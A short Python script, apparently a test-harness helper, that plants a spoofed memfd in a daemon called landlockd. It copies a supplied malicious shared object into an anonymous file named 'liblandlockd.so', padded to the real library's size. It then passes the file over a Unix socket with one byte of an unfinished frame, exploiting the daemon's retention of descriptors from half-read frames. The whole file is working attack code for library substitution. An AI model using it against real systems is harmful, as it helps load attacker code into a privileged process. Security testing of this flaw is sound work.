#!/usr/bin/env python3
"""Leaves a memfd that looks like landlockd's C library in a daemon's fds.

Usage: libmemfd_hold.py SOCKET EVIL_SO LIBRARY SECONDS

Copies EVIL_SO into a memfd named "liblandlockd.so" (what landlockd names
its copy: /proc/PID/fd/N reads "/memfd:liblandlockd.so (deleted)"), padded
with zeros to LIBRARY's size, and sends it to the daemon at SOCKET with the
first byte of a frame (SCM_RIGHTS): the daemon keeps fds that came with a
frame it has not read to the end. Holds the connection SECONDS, then exits.
Prints "held" once the fd is sent.
"""
import os
import socket
import sys
import time

path, evil, library, seconds = sys.argv[1:]
data = open(evil, "rb").read()
size = os.stat(library).st_size
assert len(data) <= size, f"{evil} is larger than {library}"
fd = os.memfd_create("liblandlockd.so", 0)
os.write(fd, data + b"\0" * (size - len(data)))
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.connect(path)
# One byte of a frame's length: the frame stays half-read.
socket.send_fds(s, [b"\0"], [fd])
print("held", flush=True)
time.sleep(float(seconds))
